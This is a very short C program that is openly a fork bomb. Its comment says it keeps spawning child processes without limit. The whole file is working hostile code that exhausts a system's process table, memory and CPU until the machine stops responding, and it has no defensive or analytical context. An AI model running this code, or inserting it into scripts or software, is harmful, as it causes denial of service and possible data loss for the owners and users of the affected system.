/* Makes children, which make children, until none can be made, and then goes on trying. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
